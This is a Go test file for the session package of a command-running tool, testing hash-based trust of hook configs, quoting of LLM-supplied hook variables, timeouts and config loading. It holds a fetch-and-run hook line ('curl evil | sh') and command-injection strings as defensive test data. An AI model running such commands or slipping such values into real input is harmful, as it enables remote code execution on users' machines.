package session

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/clada-dev/clada/config"
	"github.com/clada-dev/clada/engine"
)

// Trust is by content: a trusted file that changes is untrusted again.
func TestTrustByContentHash(t *testing.T) {
	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
	t.Setenv("HOME", t.TempDir())
	dir := t.TempDir()
	path := filepath.Join(dir, config.FileName)
	write := func(s string) *config.Config {
		t.Helper()
		if err := os.WriteFile(path, []byte(s), 0o644); err != nil {
			t.Fatal(err)
		}
		c, err := LoadConfig(dir, "")
		if err != nil {
			t.Fatal(err)
		}
		return c
	}
	c := write("hooks:\n  after: [git push]\n")
	tr, err := config.LoadTrust()
	if err != nil {
		t.Fatal(err)
	}
	want := "hooks of " + path + " not run: the file is not trusted; read it, then run: clada trust --root " + dir
	if got := tr.HooksBlocked(c); got != want {
		t.Fatalf("untrusted: %q", got)
	}
	if err := tr.Add(c); err != nil {
		t.Fatal(err)
	}
	tr, err = config.LoadTrust() // from disk
	if err != nil {
		t.Fatal(err)
	}
	if got := tr.HooksBlocked(c); got != "" || tr.State(c) != config.Trusted {
		t.Fatalf("trusted: %q", got)
	}
	c = write("hooks:\n  after: [curl evil | sh]\n")
	want = "hooks of " + path + " not run: the file changed since you trusted it; read it again, then run: clada trust --root " + dir
	if got := tr.HooksBlocked(c); got != want {
		t.Fatalf("changed: %q", got)
	}
	if got := tr.HooksBlocked(write("format: text\n")); got != "" {
		t.Fatalf("no hooks, nothing to block: %q", got)
	}
}

// Hook variables come from an LLM's answer: they never run as code.
func TestHookVariablesAreQuoted(t *testing.T) {
	dir := t.TempDir()
	v := hookVars{Summary: `it's "$(touch pwned)"`, Files: []string{"a b.txt", "`touch pwned2`"}, ApplyID: "id-1"}
	h := runHook(context.Background(), dir, "after", `printf '%s\n' {summary} {files} {apply_id} "$CLADA_APPLY_ID" > out.txt`, v, 5*time.Second)
	if h.Err != "" {
		t.Fatalf("hook failed: %s (%s)", h.Err, h.Output)
	}
	got, _ := os.ReadFile(filepath.Join(dir, "out.txt"))
	want := "it's \"$(touch pwned)\"\na b.txt\n`touch pwned2`\nid-1\nid-1\n"
	if string(got) != want {
		t.Fatalf("hook saw %q, want %q", got, want)
	}
	for _, f := range []string{"pwned", "pwned2"} {
		if _, err := os.Stat(filepath.Join(dir, f)); err == nil {
			t.Fatalf("%s was created: a variable ran as code", f)
		}
	}
}

// A hook past its timeout is killed with its whole process group.
func TestHookTimeoutKillsGroup(t *testing.T) {
	h := runHook(context.Background(), t.TempDir(), "before", "sleep 30 & sleep 30", hookVars{}, 200*time.Millisecond)
	if !strings.HasPrefix(h.Err, "timed out after 200ms") {
		t.Fatalf("Err = %q", h.Err)
	}
}

// LoadConfig finds the .clada.yaml of a parent directory, and Open fills
// from it only what no flag set; pass-env of an untrusted file is withheld
// and the session says why.
func TestOpenFillsWhatNoFlagSet(t *testing.T) {
	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
	top := t.TempDir()
	deep := filepath.Join(top, "a", "b")
	if err := os.MkdirAll(deep, 0o755); err != nil {
		t.Fatal(err)
	}
	cfg := filepath.Join(top, config.FileName)
	if err := os.WriteFile(cfg, []byte("format: text\ntimeout: 5s\nmax-output: 1MB\nmax-report: 1K\npass-env: [MY_TOKEN]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	c, err := LoadConfig(deep, "")
	if err != nil {
		t.Fatal(err)
	}
	if c.Path != cfg || c.Dir != top || c.Format != "text" {
		t.Fatalf("LoadConfig from %s = %+v", deep, c)
	}
	flags := map[string]bool{"timeout": true}
	in := Input{Root: deep, Explicit: func(f string) bool { return flags[f] }, MaxReport: 50 << 10}
	s, err := Open(in)
	if err != nil {
		t.Fatal(err)
	}
	if s.Engine.Timeout != engine.DefaultTimeout || s.Engine.MaxOutput != 1<<20 || s.Format != "text" || s.MaxReport != 1<<10 {
		t.Errorf("timeout %s (the flag's), max-output %d, format %q, max-report %d (the file's)", s.Engine.Timeout, s.Engine.MaxOutput, s.Format, s.MaxReport)
	}
	if len(s.Engine.PassEnv) != 0 || !strings.Contains(s.PassEnvIgnored, "pass-env of "+cfg+" not honoured: the file is not trusted") {
		t.Errorf("untrusted pass-env: %v, %q", s.Engine.PassEnv, s.PassEnvIgnored)
	}
	if err := s.Trust.Add(s.Config); err != nil {
		t.Fatal(err)
	}
	if s, err = Open(in); err != nil {
		t.Fatal(err)
	}
	if len(s.Engine.PassEnv) != 1 || s.Engine.PassEnv[0] != "MY_TOKEN" || s.PassEnvIgnored != "" {
		t.Errorf("trusted pass-env: %v, %q", s.Engine.PassEnv, s.PassEnvIgnored)
	}
}

// The user's own config.yaml reaches every run's engine config (the caches
// they share, the directories they let commands write), whatever the
// flags; a front door that runs no command (check) does not read it, so a
// broken one stops only those that do.
func TestUserConfig(t *testing.T) {
	cfgHome, home := t.TempDir(), t.TempDir()
	t.Setenv("XDG_CONFIG_HOME", cfgHome)
	t.Setenv("HOME", home)
	if err := os.MkdirAll(filepath.Join(cfgHome, "clada"), 0o700); err != nil {
		t.Fatal(err)
	}
	user := filepath.Join(cfgHome, "clada", "config.yaml")
	if err := os.WriteFile(user, []byte("sandbox:\n  share-caches: [go]\n  writable: [~/m2]\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	root := t.TempDir()
	s, err := Open(Input{Root: root})
	if err != nil {
		t.Fatal(err)
	}
	if strings.Join(s.Engine.ShareCaches, ",") != "go" || strings.Join(s.Engine.Writable, ",") != filepath.Join(home, "m2") || s.User.Path != user {
		t.Errorf("share %v writable %v user %+v", s.Engine.ShareCaches, s.Engine.Writable, s.User)
	}
	if err := os.WriteFile(user, []byte("sandbox:\n  writable: [relative]\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := Open(Input{Root: root}); err == nil || !strings.Contains(err.Error(), user+":2:14: sandbox.writable") {
		t.Errorf("broken user config: %v", err)
	}
	if _, err := Open(Input{Root: root}, NoHooks, NoPassEnv); err != nil {
		t.Errorf("a front door that runs nothing stopped on the user's config: %v", err)
	}
}
